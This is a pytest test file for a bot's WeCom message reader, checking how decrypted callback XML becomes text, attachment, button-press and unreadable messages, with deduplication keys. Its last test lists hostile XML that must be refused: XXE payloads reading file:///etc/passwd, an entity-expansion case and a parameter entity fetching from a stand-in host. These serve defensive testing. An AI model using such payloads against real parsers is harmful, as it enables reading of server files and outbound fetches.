"""From decrypted XML to a message: what a person typed stays as typed, and one arrival has one key."""

from datetime import UTC, datetime

import pytest

from bot.core.message import Attached, Message, Pressed, Said, Unreadable
from bot.core.post import Button, Post
from bot.handlers.card_ids import write_card_id
from bot.handlers.refused import RefusedError
from bot.handlers.wecom.reading import read_message
from tests.fakes.account import Account
from tests.fakes.wecom_platform import Callback, WeComPlatform

ACCOUNT = Account()


def read(callback: Callback | str) -> Message:
    xml = callback.xml if isinstance(callback, Callback) else callback
    return read_message(xml.encode(), corp_id=ACCOUNT.corp_id, agent_id=ACCOUNT.agent_id)


def pressed(message: Message) -> tuple[str, str]:
    assert isinstance(message.body, Pressed)
    return message.body.ref, message.body.action


def document(*elements: str, sender: str = "chenli", time: str = "1773801000") -> str:
    head = f"<ToUserName>{ACCOUNT.corp_id}</ToUserName><FromUserName>{sender}</FromUserName>"
    return f"<xml>{head}<CreateTime>{time}</CreateTime>{''.join(elements)}</xml>"


def test_a_text_is_who_when_and_what(platform: WeComPlatform) -> None:
    message = read(platform.user_says("ChenLi", "今天拜访了星野科技"))
    assert (message.channel, message.sender, message.conversation) == ("wecom", "ChenLi", "wecom:chenli")
    assert message.sent_at == datetime(2026, 3, 18, 2, 30, tzinfo=UTC)
    assert message.body == Said("今天拜访了星野科技")


@pytest.mark.parametrize(
    "text",
    [
        "",
        " ",
        "  前后有空格  ",
        "\n两行\n1. 报价 30 万\n\n",
        "制表\t符",
        "]]>",
        "a]]>b]]>",
        "<b>&amp;</b> & <![CDATA[",
        "😀👨‍👩‍👧🏽 [微笑]",
        "\u202e反向\u200b零宽\ufeff",
        "x" * 20_000,
    ],
)
def test_the_text_stays_as_it_was_typed(platform: WeComPlatform, text: str) -> None:
    assert read(platform.user_says("chenli", text)).body == Said(text)


def test_a_pasted_control_character_becomes_a_mark_and_the_message_is_not_lost(platform: WeComPlatform) -> None:
    said = platform.user_says("chenli", "报价\x00 96\x07 万\x1b[31m\uffff")
    assert read(said).body == Said("报价\ufffd 96\ufffd 万\ufffd[31m\ufffd")


def test_bytes_that_are_no_utf_8_become_marks() -> None:
    broken = document("<MsgType>text</MsgType><Content>A</Content>").encode().replace(b"A", b"\xff\xc0")
    message = read_message(broken, corp_id=ACCOUNT.corp_id, agent_id=ACCOUNT.agent_id)
    assert message.body == Said("\ufffd\ufffd")


def test_a_press_gives_back_the_ref_of_the_post_and_the_button(platform: WeComPlatform) -> None:
    post = Post("确认", "记不记？", buttons=(Button("确认", "confirm"),), ref="stalled/42/20260318_甲")
    card = {"task_id": write_card_id("chenli", post, 7), "card_type": "button_interaction"}
    assert pressed(read(platform.click("chenli", card, "confirm"))) == ("stalled/42/20260318_甲", "confirm")


def test_what_was_picked_from_a_list_is_the_action(platform: WeComPlatform) -> None:
    card = {"task_id": "r1", "card_type": "vote_interaction"}
    assert pressed(read(platform.click("chenli", card, "submit", choice=["choose:8"]))) == ("r1", "choose:8")
    both = platform.click("chenli", card, "submit", choice=["choose:1", "choose:2"], other=["x"])
    assert pressed(read(both)) == ("r1", "choose:1,choose:2,x")
    assert pressed(read(platform.click("chenli", card, "submit", choice=[]))) == ("r1", "submit")


@pytest.mark.parametrize("name", ["template_card_event", "TEMPLATE_CARD_EVENT"])
def test_the_name_of_an_event_may_be_written_in_any_case(platform: WeComPlatform, name: str) -> None:
    assert pressed(read(platform.event("chenli", name, EventKey="ack", TaskId="r1"))) == ("r1", "ack")


@pytest.mark.parametrize(
    ("elements", "kind"),
    [
        ("<MsgType>image</MsgType><MsgId>1</MsgId>", "image"),
        ("<MsgType>miniprogram</MsgType><MediaId>m</MediaId><MsgId>1</MsgId>", "miniprogram"),
        ("<MsgType>location</MsgType><MsgId>1</MsgId>", "location"),
        ("<MsgType>event</MsgType><Event>LOCATION</Event>", "event:location"),
        ("<MsgType>event</MsgType><Event>enter_agent</Event><EventKey/>", "event:enter_agent"),
        ("<MsgType>event</MsgType>", "event:unknown"),
        (
            "<MsgType>event</MsgType><Event>template_card_event</Event><EventKey>k</EventKey>",
            "event:template_card_event",
        ),
        ("<MsgType>text</MsgType>", "text"),
        ("<MsgType>text</MsgType><Content>一</Content><Content>二</Content>", "text"),
        ("<MsgType>text</MsgType><Content><b>一</b></Content>", "text"),
        ("<MsgType>text</MsgType><MsgType>image</MsgType>", "unknown"),
        ("", "unknown"),
    ],
)
def test_what_cannot_be_read_is_noted_by_its_kind(elements: str, kind: str) -> None:
    assert read(document(elements)).body == Unreadable(kind)


@pytest.mark.parametrize(
    ("kind", "fields", "attached"),
    [
        ("image", {"MediaId": "m1", "PicUrl": "https://p.test/1"}, Attached("image", "m1")),
        ("voice", {"MediaId": "m2", "Format": "amr"}, Attached("voice", "m2")),
        ("video", {"MediaId": "m3", "ThumbMediaId": "t"}, Attached("video", "m3")),
        ("file", {"MediaId": "m4", "FileName": "三方比价表.xlsx"}, Attached("file", "m4", "三方比价表.xlsx")),
        ("file", {"MediaId": "m5", "Title": " 两行\n的名字 "}, Attached("file", "m5", "两行 的名字")),
        (
            "location",
            {"Location_X": "31.2990", "Location_Y": "120.5853", "Scale": "15", "Label": "苏州市星湖街"},
            Attached("location", "31.2990,120.5853", "苏州市星湖街"),
        ),
        ("link", {"Title": "招标公告", "Url": "https://b.test/7"}, Attached("link", "https://b.test/7", "招标公告")),
    ],
)
def test_what_is_no_text_is_kept_by_its_reference(
    platform: WeComPlatform, kind: str, fields: dict[str, str], attached: Attached
) -> None:
    assert read(platform.user_sends("chenli", kind, **fields)).body == attached


def test_a_click_brings_what_permits_the_change_of_its_card(platform: WeComPlatform) -> None:
    body = read(platform.click("chenli", {"task_id": "r1", "card_type": "button_interaction"}, "confirm")).body
    assert isinstance(body, Pressed)
    assert body.permit.startswith("rc.")


def test_a_message_is_known_by_its_id_and_nothing_else(platform: WeComPlatform) -> None:
    said = platform.user_says("chenli", "同一条")
    assert read(said).key == f"wecom:{ACCOUNT.corp_id}:{ACCOUNT.agent_id}:chenli:7000000000000000001"
    assert read(platform.user_says("chenli", "同一条")).key != read(said).key


def test_two_events_of_one_second_are_two(platform: WeComPlatform) -> None:
    card = {"task_id": "r1", "card_type": "button_interaction"}
    entered = platform.enter_agent("chenli")
    clicked = [platform.click("chenli", card, key) for key in ("ack", "ack", "snooze:2h")]
    assert len({read(event).key for event in (entered, *clicked)}) == 4


def test_a_copy_of_an_event_is_the_same_even_with_its_fields_in_another_order() -> None:
    fields = ["<MsgType>event</MsgType>", "<Event>click</Event>", "<EventKey>a</EventKey>"]
    assert read(document(*fields)).key == read(document(*reversed(fields))).key
    assert read(document(*fields)).key != read(document(*fields, "<EventKey>b</EventKey>")).key


def test_the_same_options_picked_for_other_questions_are_another_event(platform: WeComPlatform) -> None:
    card = {"task_id": "r1", "card_type": "multiple_interaction"}
    one, other = (platform.click("chenli", card, "submit", q1=[first], q2=[second]) for first, second in ("ab", "ba"))
    code = one.xml.partition("rc.")[2][:27]
    twin = other.xml.replace(other.xml.partition("rc.")[2][:27], code)
    assert read(one).key != read(twin).key


def test_an_id_that_is_no_number_does_not_make_a_key() -> None:
    assert read(document("<MsgType>text</MsgType><MsgId>1:2</MsgId>")).key.startswith("wecom-ev:")
    assert read(document("<MsgType>text</MsgType><MsgId>1</MsgId><MsgId>2</MsgId>")).key.startswith("wecom-ev:")


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        ("", "xml"),
        ("{}", "xml"),
        ("<xml>", "xml"),
        ("<a></a>", "xml"),
        ("<xml></xml><xml></xml>", "xml"),
        ("<xml>" + "<a>" * 9 + "</a>" * 9 + "</xml>", "xml"),
        ("<xml>" + "<a>" * 15_000, "xml"),
        ("<xml>" + "<a/>" * 600 + "</xml>", "xml"),
        ("<xml>&#0;</xml>", "xml"),
        ("<xml>&undefined;</xml>", "xml"),
        ("<!DOCTYPE xml><xml></xml>", "xml"),
        ('<!DOCTYPE xml SYSTEM "file:///etc/passwd"><xml></xml>', "xml"),
        ('<!DOCTYPE xml [<!ENTITY e SYSTEM "file:///etc/passwd">]><xml><Content>&e;</Content></xml>', "xml"),
        ('<!DOCTYPE xml [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><xml>&b;</xml>', "xml"),
        ('<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.test/x"> %p;]><xml></xml>', "xml"),
        ("<xml></xml>", "corp"),
        ("<xml><ToUserName>wwanother</ToUserName></xml>", "corp"),
        (document("<ToUserName>wwanother</ToUserName>"), "corp"),
        (document(sender=""), "sender"),
        (document(sender="@all"), "sender"),
        (document(sender="a|b"), "sender"),
        (document(sender="a\nb"), "sender"),
        (document(sender="a" * 65), "sender"),
        (document("<FromUserName>linxiao</FromUserName>"), "sender"),
        (document(time=""), "time"),
        (document(time="-1"), "time"),
        (document(time="1e9"), "time"),
        (document(time="٣"), "time"),
        (document(time="9" * 30), "time"),
        (document("<CreateTime>1</CreateTime>"), "time"),
    ],
)
def test_a_document_without_a_clear_sender_receiver_and_time_is_refused(xml: str, reason: str) -> None:
    with pytest.raises(RefusedError) as caught:
        read(xml)
    assert caught.value.reason == reason
